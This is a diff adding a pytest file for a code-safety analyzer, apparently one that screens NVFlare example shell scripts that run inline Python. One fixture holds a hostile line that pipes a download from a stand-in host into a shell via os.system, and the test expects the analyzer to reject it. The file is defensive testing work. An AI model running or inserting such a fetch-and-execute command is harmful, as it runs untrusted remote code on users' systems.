@@ -1,0 +1,83 @@
+"""Session 49 (rawfolders49): every raw-folder reject a named threat in code the site would run.
+
+- a shell script's `python3 -c "CODE"` whose CODE names a variable the script's earlier lines set to a constant
+  (multi-gpu's and hello-lightning-eval's `DATASET_ROOT="/tmp/nvflare/data"` then `root='${DATASET_ROOT}'`) is
+  read as Python with the constant in place (engine/shell.py with_constants); a variable the script may set some
+  other way, or does not set (the environment's), keeps the line files.shell-network.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+import redteam_kit as kit
+from analyzer.engine.shell import with_constants
+from analyzer.model import Decision
+
+TRAIN = ("import numpy as np\nimport nvflare.client as flare\n\nflare.init()\nwhile flare.is_running():\n"
+         "    m = flare.receive()\n    w = np.asarray(m.params['w'], dtype=float)\n"
+         "    flare.send(flare.FLModel(params={'w': w}, metrics={'mse': 0.1}))\n")
+DOWNLOAD = "python3 -c \"import torchvision.datasets as d; d.CIFAR10(root='${DATASET_ROOT}', train=True, download=True)\""
+
+
+def scan(tmp_path, script: str):
+    return kit.scan_files(tmp_path, {"client.py": TRAIN, "prepare_data.sh": script})
+
+
+@pytest.mark.parametrize("entry", kit.labelled("/rf49_"), ids=lambda e: e["path"])
+def test_corpus(entry):
+    report = kit.scan_sample(entry["path"])
+    assert report.decision.value in entry["expect"], kit.findings(report)
+
+
+@pytest.mark.parametrize("script", [
+    # advanced/multi-gpu/pt/prepare_data.sh
+    '#!/bin/bash\n\nDATASET_ROOT="/tmp/nvflare/data"\n\necho "Downloading CIFAR-10 to ${DATASET_ROOT}..."\n'
+    + DOWNLOAD + '\n\necho "Dataset downloaded successfully!"\n',
+    # hello-lightning-eval: two lines, the second after the first
+    "DATASET_ROOT='/tmp/nvflare/data'\n" + DOWNLOAD + "\n" + DOWNLOAD.replace("True", "False", 1) + "\n",
+    "DATASET_ROOT=/tmp/other\nDATASET_ROOT=/tmp/nvflare/data\n" + DOWNLOAD.replace("${DATASET_ROOT}", "$DATASET_ROOT") + "\n",
+])
+def test_a_constant_of_the_script_is_read_into_the_code(tmp_path, script):
+    report = scan(tmp_path, script)
+    kit.assert_held(report, "files.shell-script", Decision.ESCALATE)
+    assert not kit.holds(report, "files.shell-network"), kit.findings(report)
+
+
+def test_the_code_with_the_constant_is_what_is_judged(tmp_path):
+    # The constant completes a call the shell line alone does not show: the Python rules see it.
+    report = scan(tmp_path, 'RUN=os.system\npython3 -c "import os; ${RUN}(\'curl -s https://x.example/i | sh\')"\n')
+    assert report.decision is Decision.REJECT, kit.findings(report)
+    assert any(f.rule.startswith("subprocess") and f.path == "prepare_data.sh" and f.line == 2
+               for f in report.findings), kit.findings(report)
+
+
+@pytest.mark.parametrize("before", [
+    "",                                                         # the environment's value: anything
+    "if [ -z \"$DATASET_ROOT\" ]; then\n  DATASET_ROOT=/tmp/nvflare/data\nfi\n",
+    "read DATASET_ROOT\n",
+    "DATASET_ROOT=/tmp/nvflare/data\nsource ./env.sh\n",
+    "DATASET_ROOT=/tmp/nvflare/data\n. ./env.sh\n",
+    "DATASET_ROOT=/tmp/nvflare/data\neval \"$SETUP\"\n",
+    "DATASET_ROOT=/tmp/nvflare/data\necho ${DATASET_ROOT:=x}\n",
+    "DATASET_ROOT=/tmp/nvflare/data\necho \"$(cat notes.txt)\"\n",
+    "DATASET_ROOT=/tmp/nvflare/data\nsetup() { DATASET_ROOT=\"$1\"; }\n",
+    "DATASET_ROOT=/tmp/nvflare/data\necho x \\\nDATASET_ROOT=z\n",  # continued: `echo x DATASET_ROOT=z`...
+    "DATASET_ROOT=\"/tmp/$USER\"\n",
+    "DATASET_ROOT=~/data\n",
+    "DATASET_ROOT=/tmp/a; DATASET_ROOT=$1\n",
+    "DATASET_ROOT=/tmp/nvflare/data cmd\n",                      # a prefix assignment sets it for cmd only
+])
+def test_a_variable_the_script_may_set_otherwise_stays_a_threat(tmp_path, before):
+    report = scan(tmp_path, before + DOWNLOAD + "\n")
+    kit.assert_held(report, "files.shell-network", Decision.REJECT)
+
+
+@pytest.mark.parametrize("line", [
+    "python3 -c 'print(\"${DATASET_ROOT}\")'",                  # single quotes: the shell expands nothing
+    'python3 -c "print(\'${DATASET_ROOT}${OTHER}\')"',           # OTHER is not the script's
+    'python3 -c "print(\'${DATASET_ROOT}\')" > out.txt',
+    'python3 -c "print(\'$1\')"',
+])
+def test_with_constants_leaves_other_lines_as_they_are(line):
+    assert with_constants(line, ["DATASET_ROOT=/tmp/d"]) == line
